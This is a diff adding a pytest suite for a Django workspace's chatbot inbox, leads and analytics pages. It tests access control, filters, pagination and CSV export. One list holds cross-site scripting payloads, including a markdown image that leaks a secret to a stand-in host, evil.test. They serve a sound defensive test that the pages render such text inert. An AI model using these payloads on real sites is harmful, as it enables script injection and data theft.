@@ -1,0 +1,137 @@
+"""The pages about what was said: inbox, leads, analytics."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from django.test import Client
+
+from conversations.models import Message
+from tests.conversations.conftest import deployed
+from tests.conversations.test_records_api import known, talk
+from tests.support.people import signed_in
+
+if TYPE_CHECKING:
+    from drafts.models import Entity
+    from workspaces.access import Actor
+
+pytestmark = pytest.mark.django_db
+PAGES = ("inbox/", "leads/", "analytics/", "inbox.csv", "leads.csv", "analytics.csv")
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "![x](https://evil.test/?q=SECRET)",
+    "<a hx-get=/x hx-trigger=load>x</a>",
+    '<div x-data="{}">',
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "![a][b]\n\n[b]: https://evil.test/q",
+    "<svg/onload=alert(1)>",
+    "[a](<javascript:alert(1)>)",
+    "`<b>`\n\n```html\n<script>\n```",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "[x](vbscript:x) [y](  java\nscript:x)",
+)
+
+
+@pytest.fixture
+def bot(acme: Any) -> Entity:
+    return deployed(acme)
+
+
+@pytest.fixture
+def reader(vera: Actor) -> Client:
+    return signed_in(Client(), vera)
+
+
+def html_of(client: Client, path: str) -> str:
+    response = client.get(f"/w/acme/{path}")
+    assert response.status_code == 200, path
+    return response.content.decode()
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_every_page_shows_while_there_is_nothing_to_show(reader: Client, path: str) -> None:
+    assert reader.get(f"/w/acme/{path}").status_code == 200
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_strangers_stay_out(bot: Entity, mallory: Actor, path: str) -> None:
+    talk(bot, "secret")
+    assert Client().get(f"/w/acme/{path}").status_code == 302
+    assert signed_in(Client(), mallory).get(f"/w/acme/{path}").status_code == 404
+
+
+def test_the_inbox_lists_and_opens_a_conversation(bot: Entity, reader: Client) -> None:
+    conversation = talk(bot, "Where is it?", "**Here** [1]", feedback="up")
+    known(conversation, name="Ana", email="ana@example.com")
+    listed = html_of(reader, "inbox/")
+    assert "Where is it?" in listed
+    assert "Ana" in listed
+    opened = html_of(reader, f"inbox/{conversation.pk}/")
+    assert "<strong>Here</strong>" in opened
+    assert "ana@example.com" in opened
+    assert "Helpful" in opened
+    assert "200 ms" in opened
+
+
+def test_a_conversation_of_another_workspace_is_not_found(bot: Entity, mallory: Actor) -> None:
+    conversation = talk(bot, "secret")
+    path = f"/w/evil/inbox/{conversation.pk}/"
+    assert signed_in(Client(), mallory).get(path).status_code == 404
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_models_and_visitors_say_does_nothing(bot: Entity, reader: Client, text: str) -> None:
+    conversation = talk(bot, text, text, visitor={text: text})
+    known(conversation, name=text, email=text, company=text)
+    Message.objects.update(error=text[:200])
+    for path in ("inbox/", f"inbox/{conversation.pk}/", "leads/"):
+        html = html_of(reader, path).lower()
+        body = html[html.index("<main") :]
+        for bad in (
+            "<script",
+            "<img",
+            "<div x-data",
+            'href="javascript',
+            'href="data',
+            "hx-get=/x",
+        ):
+            assert bad not in body, (path, bad)
+        assert 'src="https://evil' not in body
+        assert 'href="vbscript' not in body
+
+
+def test_failed_answers_say_why(bot: Entity, reader: Client) -> None:
+    conversation = talk(bot, "hi", "", status="failed")
+    Message.objects.filter(role="assistant").update(error="The model answered 429.")
+    opened = html_of(reader, f"inbox/{conversation.pk}/")
+    assert "Failed" in opened
+    assert "The model answered 429." in opened
+
+
+def test_the_filter_narrows_and_pages_follow(bot: Entity, reader: Client) -> None:
+    for n in range(55):
+        talk(bot, f"number {n}", days_ago=n % 3)
+    talk(bot, "refund", channel="api")
+    assert "number 7" not in html_of(reader, "inbox/?channel=api")
+    first = html_of(reader, "inbox/?channel=website")
+    assert "Older" in first
+    assert "cursor=" in first
+    assert "Nothing found" in html_of(reader, "inbox/?q=nothing+like+it")
+    assert reader.get("/w/acme/inbox/?since=yesterday").status_code == 422
+    assert reader.get("/w/acme/inbox/?cursor=x").status_code == 400
+
+
+def test_leads_and_analytics_show_what_there_is(bot: Entity, reader: Client) -> None:
+    known(talk(bot, "hi", feedback="up"), name="Ana", email="ana@example.com", company="Acme Ltd")
+    leads = html_of(reader, "leads/")
+    assert "Ana" in leads
+    assert "Acme Ltd" in leads
+    analytics = html_of(reader, "analytics/")
+    assert "100 %" in analytics
+    assert analytics.count("<rect") == 30
+    assert " style=" not in analytics
+    text = b"".join(reader.get("/w/acme/leads.csv")).decode()
+    assert "ana@example.com" in text
